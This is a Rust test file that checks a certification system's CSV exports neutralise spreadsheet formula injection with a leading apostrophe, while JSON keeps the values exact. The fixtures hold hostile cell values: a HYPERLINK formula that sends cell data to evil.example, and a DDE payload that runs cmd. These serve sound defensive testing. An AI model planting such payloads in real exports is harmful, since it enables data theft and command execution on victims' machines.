//! Spreadsheet-safe exports: a candidate whose name, institution and position are formulas, as a
//! hostile spreadsheet would hold them, comes out of every CSV listing as text no spreadsheet
//! runs (OWASP's leading apostrophe), and the same values stay exact in JSON.

use avala_tests::{TestDb, both};

use super::Operator;

const NAME: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ver\")";
const INSTITUTION: &str = "+cmd|' /C calc'!A0";
const POSITION: &str = "@SUM(A1)";

both!(every_csv_export_neutralises_formulas);

/// Every cell of a CSV document, as a spreadsheet reads it.
fn cells(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

async fn every_csv_export_neutralises_formulas(test: TestDb) {
    let op = Operator { test: &test };
    let window = op.set_up().await;
    let w = window.to_string();
    op.ok(
        Some("admin"),
        &[
            "candidate",
            "register",
            "--window",
            &w,
            "--curp",
            "HEGG560427MVZRRL04",
            "--name",
            NAME,
            "--email",
            "lupe@itaip.example",
            "--institution",
            INSTITUTION,
            "--position",
            POSITION,
        ],
    )
    .await;
    let id = op.enrollment_ids(window).await[0];
    op.evaluate(id, "eva.rosales", None).await;
    op.ok(Some("ver.zuniga"), &["dictamen", "issue", "--window", &w, "--procede"])
        .await;

    for args in [
        &["enrollment", "list"][..],
        &["enrollment", "show", &id.to_string()],
        &["certificate", "list"],
        &["report", "--by", "institution"],
    ] {
        let mut all = vec!["--format", "csv"];
        all.extend(args);
        let out = op.ok(Some("admin"), &all).await;
        let cells = cells(&out.stdout);
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{args:?}: the cell {cell:?} would run as a formula:\n{}",
                out.stdout
            );
        }
        let neutralised: Vec<&String> = cells.iter().filter(|c| c.starts_with('\'')).collect();
        assert!(!neutralised.is_empty(), "{args:?}: no hostile cell in\n{}", out.stdout);
        for cell in neutralised {
            let value = &cell[1..];
            assert!(
                [NAME, INSTITUTION, POSITION].contains(&value),
                "{args:?}: {cell:?} is not one of the hostile values, apostrophe first"
            );
        }
    }
    // JSON is data for programs, not a spreadsheet: the values as they were given.
    let list = op.json(Some("admin"), &["enrollment", "list"]).await;
    assert_eq!(list[0]["name"], NAME);
    assert_eq!(list[0]["institution"], INSTITUTION);
}
